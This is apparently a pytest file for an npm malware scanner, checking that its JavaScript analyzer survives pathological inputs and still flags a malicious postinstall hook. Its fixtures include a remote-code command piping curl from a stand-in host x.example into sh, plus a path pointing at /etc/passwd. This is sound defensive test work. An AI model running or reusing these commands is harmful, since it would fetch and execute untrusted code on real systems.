"""Hostile JavaScript never crashes, stalls or silences the code analyzer (issue 17).

Each input is generated at test time. The analyzer must end within a time bound, and a malicious
install hook beside the hostile file must still be reported: a package with unreadable code keeps
its other evidence.
"""

from __future__ import annotations

import json
import time

import pytest

from npmward.analyzers.base import AnalysisContext
from npmward.analyzers.code import CodeAnalyzer
from npmward.model import Artifact, Level, PackageId
from npmward.verdict import decide

EVIL = "require('child_process').exec('curl -s https://x.example/p.sh | sh');\n"


def analyze(files: dict[str, str | bytes], scripts: dict | None = None, seconds: float = 60.0):
    manifest = {"name": "hostile", "version": "1.0.0", "main": "index.js", **({"scripts": scripts} if scripts else {})}
    data = {"package.json": json.dumps(manifest).encode(),
            **{k: v.encode() if isinstance(v, str) else v for k, v in files.items()}}
    art = Artifact(PackageId("hostile", "1.0.0"), data, manifest, "test")
    start = time.monotonic()
    found = list(CodeAnalyzer().analyze(AnalysisContext(artifact=art)))
    elapsed = time.monotonic() - start
    assert elapsed < seconds, f"took {elapsed:.1f} s"
    return found


def rules(found) -> set[str]:
    return {f.rule for f in found}


@pytest.mark.parametrize("shape", [
    "a" + ".b" * 1200 + "()",                     # member chain (RecursionError in callee_name before)
    "(" * 3000 + "a" + ")" * 3000 + "()",         # parenthesised callee
    "new " * 3000 + "a" + "()" * 3000,            # new chain
    "a" + "[0]" * 3000 + "()",                    # index chain
    "f()" + "()" * 3000,                          # call chain
])
def test_deep_callee_chains_are_named_without_recursion(shape):
    found = analyze({"index.js": shape + ";\n" + EVIL}, seconds=20)
    assert "code/shell-command" in rules(found)


def test_twenty_thousand_nested_calls_are_read():
    code = "f(" * 20000 + EVIL.rstrip().rstrip(";") + ")" * 20000 + ";\n"
    found = analyze({"index.js": code}, seconds=30)
    assert "code/shell-command" in rules(found)


def test_repeated_clipboard_commands_take_linear_time():
    code = "const cp = require('child_process');\n" + "cp.exec('xclip -selection clipboard ' + x);" * 500 + "\n"
    analyze({"index.js": code}, seconds=10)


def test_one_long_line_of_calls():
    found = analyze({"index.js": "f(1);" * 280_000 + "\n" + EVIL}, seconds=60)  # 1.4 MB on one line
    assert "code/shell-command" in rules(found)


def test_deeply_nested_functions():
    code = "function a(){" * 95_000 + "}" * 95_000 + "\n" + EVIL  # 1.4 MB
    found = analyze({"index.js": code}, seconds=60)
    assert "code/shell-command" in rules(found)


def test_budget_exhausted_reports_what_was_not_read_and_keeps_findings(monkeypatch):
    # The budget runs out after the first file (the one the install hook runs, read first).
    from npmward.analyzers.code.budget import Budget

    looks = []
    monkeypatch.setattr(Budget, "expired", lambda self, grace=0.0: looks.append(1) or (len(looks) > 1 and grace == 0.0))
    files = {"index.js": EVIL, **{f"lib/m{i}.js": "module.exports = %d;\n" % i for i in range(20)}}
    found = analyze(files, scripts={"postinstall": "node index.js"}, seconds=20)
    incomplete = [f for f in found if f.rule == "code/analysis-incomplete"]
    assert len(incomplete) == 1 and len(incomplete[0].details["unread"]) == 20
    assert all(u.startswith("lib/m") for u in incomplete[0].details["unread"])
    assert "code/shell-command" in rules(found)  # what was read still counts
    assert decide(found).level is Level.MALICIOUS


def test_unread_code_alone_is_not_clean(monkeypatch):
    from npmward.analyzers.code.budget import Budget

    monkeypatch.setattr(Budget, "expired", lambda self, grace=0.0: grace == 0.0)
    found = analyze({"index.js": "module.exports = 1;\n"}, seconds=20)
    assert rules(found) == {"code/analysis-incomplete"} and decide(found).level is Level.SUSPICIOUS


def test_walk_stops_at_the_deadline_and_says_so():
    from npmward.analyzers.code.budget import Budget
    from npmward.analyzers.code.extract import extract

    facts = extract("big.js", ("f(1);\n" * 30_000).encode(), Budget.seconds(-1))  # (under SPARSE_BYTES: walked whole)
    assert not facts.complete


def test_lone_surrogates_from_escapes_do_not_break_matching():
    # `'\ud800'` is a valid JavaScript string; decoded, it cannot be encoded as UTF-8 for RE2.
    found = analyze({"index.js": "const cp = require('child_process');\ncp.exec('curl \\ud800 https://x.example/a | sh');\n"},
                    scripts={"postinstall": "node index.js"}, seconds=20)
    assert "code/shell-command" in rules(found)


def test_a_large_file_is_read_around_its_risky_code():
    # 2.5 MB of plain code with a payload appended at the end (how trojanized bundles look).
    filler = "function f%d(a) { return a * 2 + 1; }\n"
    big = "".join(filler % i for i in range(70_000))
    found = analyze({"index.js": big + EVIL}, scripts={"postinstall": "node index.js"}, seconds=30)
    assert "code/shell-command" in rules(found) and "code/analysis-incomplete" not in rules(found)


def test_a_file_too_large_to_parse_is_reported_when_it_holds_anything_risky(monkeypatch):
    import importlib

    extract_module = importlib.import_module("npmward.analyzers.code.extract")
    monkeypatch.setattr(extract_module, "MAX_WALK_BYTES", 100_000)
    filler = "var a" + "0" * 60 + " = 1;\n"
    big = filler * (150_000 // len(filler))
    quiet = analyze({"index.js": "module.exports = 1;\n", "data/table.js": big}, seconds=30)
    assert "code/analysis-incomplete" not in rules(quiet)  # nothing any rule reads: nothing left unread
    risky = analyze({"index.js": "module.exports = 1;\n", "data/table.js": big + EVIL}, seconds=30)
    incomplete = next(f for f in risky if f.rule == "code/analysis-incomplete")
    assert "data/table.js" in incomplete.details["unread"][0] and decide(risky).level is Level.SUSPICIOUS


@pytest.mark.parametrize("shape", [
    "stream.on(['data', 'end'], (d) => {});",      # an event name that folds to a list (add-stream 1.0.0)
    "sock.once({ data: 1 }, (m) => m);",
    "bus.emit(['message'], 1);",
])
def test_event_names_that_are_not_strings(shape):
    found = analyze({"index.js": shape + "\n" + EVIL})
    assert "code/analysis-incomplete" not in rules(found) and not any(f.rule == "analysis/incomplete" for f in found)
    assert "code/shell-command" in rules(found) or "code/remote-code" in rules(found)


@pytest.mark.parametrize("action", [
    b"runs: [unclosed",                                   # not YAML
    b"- a\n- b\n",                                        # YAML, not a mapping
    b"runs:\n  using: node20\n  main: ../../../etc/passwd\n",  # a path out of the package
    b"a: &a [x, y]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b]\nruns: *c\n",  # aliases
    b"runs: {using: node20, main: " + b"x" * 70_000 + b"}\n",  # over the size limit
], ids=["not-yaml", "a-list", "path-out", "aliases", "too-big"])
def test_a_hostile_action_yml_runs_nothing_and_keeps_the_verdict(action):
    from npmward.analyzers.code.package import action_files

    files = {"action.yml": action, "index.js": b"module.exports = 1;\n", "install.js": EVIL.encode()}
    assert action_files(files) == set()
    assert "code/shell-command" in rules(analyze(files, {"postinstall": "node install.js"}))


def test_an_array_among_a_command_s_arguments_is_read():
    # `spawn(node, [['--x'], '-e', …])`: an argument folded to a list once crashed the inline-script check
    # (a list is not hashable), and the whole code analysis of the package was lost.
    code = ("const cp = require('child_process');\n"
            "cp.spawn(process.execPath, [['--no-warnings'], '-e', 'console.log(1)']);\n" + EVIL)
    found = analyze({"index.js": code}, scripts={"postinstall": "node index.js"}, seconds=20)
    assert "code/analysis-incomplete" not in rules(found)
    assert "code/shell-command" in rules(found)


def test_a_bug_one_file_finds_costs_only_that_file(monkeypatch):
    # An input that finds a bug in the extraction (or in a check) is unread code, not a clean package: the other
    # files are still judged and the finding says which file was not read.
    from npmward.analyzers.code import analysis

    real = analysis.extract
    monkeypatch.setattr(analysis, "extract", lambda path, *a, **k: 1 / 0 if path == "lib/odd.js" else real(path, *a, **k))
    found = analyze({"index.js": EVIL, "lib/odd.js": "module.exports = 1;\n"}, scripts={"postinstall": "node index.js"})
    incomplete = [f for f in found if f.rule == "code/analysis-incomplete"]
    assert len(incomplete) == 1 and incomplete[0].details["unread"] == [
        "lib/odd.js (not read: internal error, ZeroDivisionError: division by zero)"]
    assert "code/shell-command" in rules(found)
    assert decide(found).level is Level.MALICIOUS


def test_a_bug_in_a_check_keeps_what_was_found_before_it(monkeypatch):
    from npmward.analyzers.code import rules as checks

    loaded = checks.load_rules()
    broken = type("Broken", (), {"per_package": True, "check": lambda self, package: 1 / 0})()
    monkeypatch.setattr(checks, "load_rules", lambda: [*loaded, broken])
    monkeypatch.setattr("npmward.analyzers.code.analysis.load_rules", lambda: [*loaded, broken])
    found = analyze({"index.js": EVIL}, scripts={"postinstall": "node index.js"})
    assert "code/shell-command" in rules(found)
    assert any(f.rule == "code/analysis-incomplete" and "ZeroDivisionError" in f.details["unread"][0] for f in found)


def test_a_large_file_is_read_around_its_risky_tokens_but_an_entry_whole():
    # 300 KB of functions and one risky call: a bundle that is not an entry is read where the call is; the same
    # file as `main` or a hook's file (where a trojan is put) is read whole.
    from npmward.analyzers.code.extract import extract
    from npmward.analyzers.code.sparse import ENTRY_SPARSE_BYTES, SPARSE_BYTES

    source = ("".join(f"function f{i}(a) {{ return a + {i}; }}\n" for i in range(8000))
              + "require('child_process').exec(process.argv[2]);\n").encode()
    assert SPARSE_BYTES < len(source) <= ENTRY_SPARSE_BYTES
    bundle, entry = extract("dist/bundle.js", source), extract("dist/bundle.js", source, entry=True)
    assert len(bundle.funcs) == 0 and len(entry.funcs) == 8000
    for facts in (bundle, entry):
        assert facts.complete and any(f.kind == "call" and "exec" in f.value for f in facts.facts)
